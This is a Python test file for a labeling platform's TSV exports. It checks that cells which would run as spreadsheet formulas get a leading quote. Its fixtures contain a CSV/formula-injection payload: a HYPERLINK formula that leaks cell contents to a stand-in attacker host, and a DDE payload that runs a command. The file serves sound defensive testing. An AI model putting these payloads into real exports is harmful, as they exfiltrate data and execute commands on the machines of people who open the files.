"""TSV downloads are safe to open in a spreadsheet: text cells that would run as formulas
start with a quote; numbers (confidence) are untouched."""

from __future__ import annotations

import csv
import io

from app.compat.toloka import assignments as toloka
from app.services.aggregations import runs as aggregations
from app.services.projects import progress
from app.services.quality import review
from tests.builders.answers import add_answers
from tests.builders.pools import add_tasks, make_pool
from tests.builders.users import make_labeler

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text), delimiter="\t"))


def _formula_pool(session, requester):
    pool = make_pool(session, requester)
    answered, silent = add_tasks(session, pool, general=2)
    for task in (answered, silent):
        task.image = FORMULA  # as a requester-controlled value would arrive
        task.input_values = {"image": FORMULA, "note": "@SUM(1+1)*cmd|' /C calc'!A0"}
        session.add(task)
    session.commit()
    return pool, answered


def test_aggregated_and_unanswered_tsvs_neutralise_formulas(session, requester):
    pool, answered = _formula_pool(session, requester)
    add_answers(session, pool, {answered.id: [(make_labeler(session), "cat")]})
    run = aggregations.start_aggregation(session, requester=requester, pool_id=pool.id)
    session.expire_all()
    run = aggregations.get_run(session, requester=requester, run_id=run.id)
    results = _rows(aggregations.build_results_tsv(session, run=run))
    assert results[1][0] == "'" + FORMULA and float(results[1][2]) == 1.0
    assert _rows(aggregations.build_unanswered_tsv(session, run=run))[1] == ["'" + FORMULA]


def test_raw_review_and_toloka_tsvs_neutralise_formulas(session, requester):
    pool, answered = _formula_pool(session, requester)
    add_answers(session, pool, {answered.id: [(make_labeler(session), "cat")]})
    raw = _rows(progress.export_raw_answers(session, requester=requester, pool_id=pool.id))
    assert raw[1][0] == "'" + FORMULA
    tolo = _rows(
        toloka.assignments_tsv(
            session, requester=requester, pool_id=pool.id, statuses=["accepted"], fields=[]
        )
    )
    assert tolo[1][:2] == ["'" + FORMULA, "'@SUM(1+1)*cmd|' /C calc'!A0"]
    add_answers(session, pool, {answered.id: [(make_labeler(session), "cat")]}, "submitted")
    rows = _rows(review.review_tsv(session, requester=requester, pool_id=pool.id))
    assert rows[1][2] == "'" + FORMULA
    for text in map("\t".join, raw[1:] + tolo[1:] + rows[1:]):
        assert "\t=" not in "\t" + text and "\t@" not in "\t" + text
